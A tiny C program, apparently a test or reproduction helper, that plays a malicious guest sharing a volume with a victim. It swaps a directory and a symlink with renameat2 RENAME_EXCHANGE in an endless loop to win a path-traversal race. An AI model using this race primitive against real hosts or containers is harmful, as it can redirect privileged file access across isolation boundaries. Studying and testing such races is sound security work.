/* Plays a guest that shares a volume with its victim: swaps a directory
 * and a symlink in DIR (renameat2 RENAME_EXCHANGE) as fast as it can,
 * so that a path walked through DIR/sub meets the link at some moment. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc != 2 || chdir(argv[1])) return 2;
  for (;;) renameat2(AT_FDCWD, "sub", AT_FDCWD, "lnk", RENAME_EXCHANGE);
}
